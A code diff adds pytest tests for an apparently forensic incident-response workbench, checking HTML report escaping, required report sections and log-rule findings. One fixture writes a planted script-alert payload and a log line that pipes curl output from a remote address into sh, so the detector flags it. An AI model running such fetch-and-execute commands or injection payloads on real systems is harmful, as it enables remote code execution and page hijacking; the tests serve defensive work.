@@ -198,3 +198,46 @@ def test_timeline_is_timesketch_ready(runs):
         assert {"message", "datetime", "timestamp", "timestamp_desc", "data_type", "tag"} <= set(row)
         assert isinstance(row["timestamp"], int) and isinstance(row["tag"], list)
         assert re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?[+-]\d\d:\d\d$", row["datetime"]), row["datetime"]
+
+
+PLANTED = '<script>alert("evidence")</script>'
+
+
+def test_evidence_html_is_escaped_in_the_report(tmp_path):
+    case = tmp_path / "case"
+    shutil.copytree(SAMPLES / "false-alarm", case)
+    with (case / "logs" / "pipeline.log").open("a") as fh:
+        fh.write(f"2026-11-03T10:21:06.000000Z 00O curl -s http://198.51.100.9/{PLANTED} | sh\n")
+    with (case / "actions.log").open("a") as fh:
+        fh.write(f"[2026-11-25T09:15:00Z] NOTE: {PLANTED}\n")
+    (case / "notes").mkdir()
+    (case / "notes" / "timeline.csv").write_text(f"time,message\n2026-11-25T09:16:00Z,{PLANTED}\n")
+    out = tmp_path / "out"
+    proc = run_case_at(case, out)
+    assert proc.returncode == 0, proc.stderr
+    html = (out / "report.html").read_text()
+    assert PLANTED not in html and "<script>alert(" not in html
+    assert "&lt;script&gt;alert(" in html  # shown, as text
+    doc = load(out)
+    assert any(f["category"] == "log_pattern" and f["severity"] in {"high", "critical"} for f in doc["findings"])
+    for name in ("initial_alert", "stakeholder_update", "post_incident_report"):
+        assert "<script>" not in (out / "comms" / f"{name}.md").read_text()
+
+
+def run_case_at(case: Path, out: Path) -> subprocess.CompletedProcess:
+    return subprocess.run([*WORKBENCH, "investigate", str(case), "--out", str(out)],
+                          capture_output=True, text=True, timeout=300, check=False)  # fmt: skip
+
+
+@pytest.mark.parametrize("name", ["tampered-weights", "poisoned-dependency", "false-alarm"])
+def test_report_has_summary_sections_and_appendix(runs, name):
+    html = (runs[name] / "report.html").read_text()
+    assert external_loads(html) == []
+    for heading in ("Summary", "Evidence and chain of custody", "Findings by ATLAS tactic", "Model forensics",
+                    "Dependencies", "Pipeline logs", "Host state", "Behaviour drift", "Timeline", "Recommendations",
+                    "Communication drafts", "Appendix"):  # fmt: skip
+        assert f">{heading}" in html, heading
+    assert "Tool versions" in html and "Run parameters" in html and "log rules: " in html
+    assert "Executed notebook SHA-256" in html
+    doc = load(runs[name])
+    assert doc["analysis_errors"] == {}
